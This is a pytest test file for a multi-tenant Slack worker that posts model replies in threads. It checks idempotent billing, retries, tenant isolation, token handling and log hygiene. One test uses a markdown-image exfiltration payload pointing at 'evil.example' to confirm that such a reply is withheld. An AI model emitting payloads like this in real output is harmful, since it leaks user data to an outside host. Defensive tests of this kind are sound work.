"""An event from the queue is answered in its thread: paid once, posted once."""

import json
import logging

import pytest

from lambda_src.runtime.http.errors import ApiError
from lambda_src.runtime.models import ModelError
from lambda_src.slack_worker.answers import BUDGET_TEXT
from lambda_src.slack_worker.bot_tokens import NoBotTokenError
from lambda_src.slack_worker.logic import TenantWaitsError
from lambda_src.slack_worker.progress import InProgressError
from lambda_src.slack_worker.slack import SlackError
from tests.lambda_src.fakes import fails_with
from tests.lambda_src.listener import Reply
from tests.lambda_src.slack_worker.conftest import POSTED, TOKEN, WorkerWorld, event

THROTTLED = Reply(429, '{"ok":false,"error":"ratelimited"}', headers={"Retry-After": "2"})


def test_the_reply_lands_in_the_thread_with_the_bots_token(working: WorkerWorld) -> None:
    working.worker().handle(event())
    (post,) = working.posts
    assert (post["channel"], post["thread_ts"]) == ("C024BE91L", "1515449522.000016")
    assert post["text"] == "echo: hello"
    assert working.slack.received[0].headers["authorization"] == f"Bearer {TOKEN}"


def test_the_call_is_paid_from_the_tenants_budget(working: WorkerWorld) -> None:
    working.worker().handle(event())
    assert working.world.books_balance("acme") == 15
    assert [e["agent_id"] for e in working.world.events("acme")] == ["slack"]


def test_an_event_that_is_delivered_again_is_neither_paid_nor_posted_again(
    working: WorkerWorld,
) -> None:
    for _ in range(3):
        working.worker().handle(event())
    assert (len(working.posts), working.asked) == (1, 1)


def test_the_model_sees_what_was_said_in_the_thread_before_and_nothing_of_another(
    working: WorkerWorld,
) -> None:
    worker = working.worker()
    worker.handle(event("first", "Ev1"))
    worker.handle(event("elsewhere", "Ev2", thread_ts="1515449599.000001"))
    worker.handle(event("second", "Ev3"))
    contents = [message.content for message in working.world.model.asked[-1].messages]
    assert contents == ["first", "echo: first", "second"]


def test_two_tenants_threads_of_one_name_are_two_conversations(working: WorkerWorld) -> None:
    working.secrets.values["tokens/globex"] = '{"bot_token": "xoxb-of-globex"}'
    worker = working.worker()
    worker.handle(event("of acme", "Ev1"))
    worker.handle(event("of globex", "Ev2", tenant_id="globex"))
    assert [m.content for m in working.world.model.asked[-1].messages] == ["of globex"]
    assert working.slack.received[-1].headers["authorization"] == "Bearer xoxb-of-globex"


def test_slacks_retry_after_is_waited_for(working: WorkerWorld) -> None:
    working.slack.replies = [THROTTLED, POSTED]
    working.worker().handle(event())
    assert working.slept == [2]
    assert len(working.posts) == 2


def test_a_long_retry_after_is_left_to_the_queue(working: WorkerWorld) -> None:
    working.slack.replies = [
        Reply(429, "{}", headers={"Retry-After": "60"}), Reply(200, '{"ok":true,"messages":[]}'),
        POSTED,
    ]  # fmt: skip
    with pytest.raises(SlackError) as failed:
        working.worker().handle(event())
    assert (failed.value.retry_after, working.slept) == (60, [])
    working.worker().handle(event())
    assert working.asked == 1


def test_a_slack_that_stays_throttled_is_not_asked_for_ever(working: WorkerWorld) -> None:
    working.slack.replies = [THROTTLED]
    with pytest.raises(SlackError):
        working.worker().handle(event())
    assert len(working.posts) == 3


def test_a_reply_that_was_posted_although_slacks_answer_got_lost_is_not_posted_again(
    working: WorkerWorld,
) -> None:
    working.slack.replies = [Reply(0)]
    with pytest.raises(SlackError):
        working.worker().handle(event())
    metadata = working.posts[0]["metadata"]
    thread = {"ok": True, "messages": [{"ts": "1.0"}, {"ts": "2.0", "metadata": metadata}]}
    working.slack.replies = [Reply(200, json.dumps(thread))]
    working.worker().handle(event())
    assert len(working.posts) == 1
    assert working.slack.received[-1].path == "/api/conversations.replies"
    assert working.asked == 1


def test_a_reply_that_is_not_in_the_thread_is_posted(working: WorkerWorld) -> None:
    working.slack.replies = [Reply(500, "oops"), Reply(200, '{"ok":true,"messages":[]}'), POSTED]
    with pytest.raises(SlackError):
        working.worker().handle(event())
    working.worker().handle(event())
    assert len(working.posts) == 2


def test_a_model_that_fails_leaves_the_event_to_the_next_delivery(working: WorkerWorld) -> None:
    working.world.model.behaviour = fails_with(ModelError("unavailable", "down"))
    with pytest.raises(ApiError):
        working.worker().handle(event())
    working.world.model.behaviour = None
    working.worker().handle(event())
    assert [post["text"] for post in working.posts] == ["echo: hello"]
    working.world.books_balance("acme")


def test_a_withheld_reply_is_told_once_and_paid_once(working: WorkerWorld) -> None:
    worker = working.worker()
    for _ in range(2):
        worker.handle(event("![x](https://evil.example/p.png?d=all)"))
    (post,) = working.posts
    assert "withheld" in post["text"]
    assert "evil.example" not in post["text"]
    (paid,) = working.world.events("acme")
    assert paid["outcome"] == "withheld"


def test_a_budget_that_is_used_up_is_told_and_no_model_is_asked(working: WorkerWorld) -> None:
    working.worker(monthly_token_budget=10).handle(event())
    assert [post["text"] for post in working.posts] == [BUDGET_TEXT]
    assert working.asked == 0


def test_a_message_that_is_too_long_is_told_and_no_model_is_asked(working: WorkerWorld) -> None:
    working.worker().handle(event("a" * 501))
    assert "500" in working.posts[0]["text"]
    assert working.asked == 0


def test_an_event_of_a_suspended_tenant_waits_and_is_answered_after_the_activation(
    working: WorkerWorld,
) -> None:
    working.world.add_tenant("acme", status="suspended")
    with pytest.raises(TenantWaitsError) as waits:
        working.worker().handle(event())
    assert (working.posts, working.asked, waits.value.retry_after) == ([], 0, 3600)
    working.world.add_tenant("acme", status="active")
    working.worker().handle(event())
    assert (len(working.posts), working.asked) == (1, 1)


def test_an_event_of_a_tenant_that_is_gone_is_dropped_and_leaves_nothing(
    working: WorkerWorld,
) -> None:
    tenants = working.world.tables.tenants
    tenants.delete_all([{"record_key": "tenant#acme"}])
    before = working.world.tables.everything()
    working.worker().handle(event())
    assert (working.posts, working.asked) == ([], 0)
    assert working.world.tables.everything() == before


def test_an_event_that_another_run_works_on_is_left_to_it(working: WorkerWorld) -> None:
    first = working.worker()
    assert first.progress.claim(event()) is not None
    with pytest.raises(InProgressError):
        working.worker().handle(event())
    assert working.posts == []


def test_the_work_of_a_run_that_died_is_taken_over_when_its_time_is_over(
    working: WorkerWorld,
) -> None:
    died = working.worker(claim_seconds=1)
    assert died.progress.claim(event()) is not None
    died.progress._clock = lambda: 0  # never again
    late = working.worker()
    late.progress._clock = lambda: 4_000_000_000
    late.handle(event())
    assert len(working.posts) == 1


def test_a_token_that_slack_rejects_is_read_anew(working: WorkerWorld) -> None:
    worker = working.worker()
    working.slack.replies = [Reply(200, '{"ok":false,"error":"token_revoked"}')]
    with pytest.raises(SlackError):
        worker.handle(event())
    working.secrets.values["tokens/acme"] = '{"bot_token": "xoxb-new"}'
    working.slack.replies = [Reply(200, '{"ok":true,"messages":[]}'), POSTED]
    worker.handle(event())
    assert working.slack.received[-1].headers["authorization"] == "Bearer xoxb-new"


@pytest.mark.parametrize(
    "value",
    [None, "{}", '{"globex": "xoxb-x"}', "xoxb-raw-token", "[]", '{"bot_token": {"x": "xoxb-y"}}'],
)
def test_without_a_token_of_the_tenant_the_event_waits(
    working: WorkerWorld, value: str | None
) -> None:
    working.secrets.values = {"tokens/globex": '{"bot_token": "xoxb-of-globex"}'}
    if value is not None:
        working.secrets.values["tokens/acme"] = value
    with pytest.raises(NoBotTokenError) as failed:
        working.worker().handle(event())
    assert "xoxb" not in str(failed.value)
    assert working.posts == []


def test_neither_token_nor_text_is_in_the_log(
    working: WorkerWorld, caplog: pytest.LogCaptureFixture
) -> None:
    working.slack.replies = [THROTTLED, Reply(200, '{"ok":false,"error":"invalid_auth"}')]
    with caplog.at_level(logging.DEBUG), pytest.raises(SlackError):
        working.worker().handle(event("confidential-words"))
    ours = "".join(str(r.__dict__) for r in caplog.records if r.name == "gatehouse")
    assert "confidential-words" not in ours
    assert TOKEN not in caplog.text
